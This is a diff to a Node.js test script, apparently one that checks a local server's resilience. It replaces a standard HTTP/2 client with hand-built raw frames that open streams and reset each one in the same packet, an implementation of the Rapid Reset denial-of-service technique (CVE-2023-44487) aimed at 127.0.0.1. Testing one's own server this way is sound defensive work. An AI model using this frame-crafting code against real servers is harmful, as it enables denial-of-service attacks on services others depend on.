@@ -13,7 +13,6 @@
 "use strict";
 const { fork, spawnSync } = require("node:child_process");
 const http = require("node:http");
-const http2 = require("node:http2");
 const net = require("node:net");
 const os = require("node:os");
 
@@ -60,20 +59,33 @@ function reset(port) {
   socket.on("error", () => {});
 }
 
-/** Opens streams and resets them at once, in a session of HTTP/2 that is opened anew when the hub has ended it. */
+const frame = (type, flags, id, payload) => {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(id, 5);
+  return Buffer.concat([head, payload]);
+};
+const literal = (index, text) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)]);
+const REQUEST = Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x04, "/api/sse/subscribe/x"), literal(0x01, "localhost")]);
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+
+/** Opens streams and resets each in the same packet, before it can be answered (CVE-2023-44487), in a session of HTTP/2 that is
+ * opened anew when the hub has ended it. Written by hand, as a client of Node's waits between the two. */
 function resetter(port) {
-  let session = null;
+  let socket = null, id = 1;
   const open = () => {
-    session = http2.connect(`http://127.0.0.1:${port}`, { localAddress: "127.0.0.6" });
+    [socket, id] = [net.connect({ port, host: "127.0.0.1", localAddress: "127.0.0.6" }), 1];
     done.sessions++;
-    session.on("error", () => {}).on("close", () => (session = null));
+    socket.on("error", () => {}).on("data", () => {}).on("end", () => socket.end()).on("close", () => (socket = null));
+    socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]));
   };
   return () => {
-    if (!session) open();
-    if (session.closed || session.destroyed) return;
-    const stream = session.request({ ":path": "/api/sse/subscribe/x" });
-    stream.on("error", () => {});
-    stream.close(http2.constants.NGHTTP2_CANCEL);
+    if (!socket) open();
+    if (!socket.writable) return;
+    socket.write(Buffer.concat([frame(1, 5, id, REQUEST), frame(3, 0, id, CANCEL)]));
+    id += 2;
     done.streams++;
   };
 }
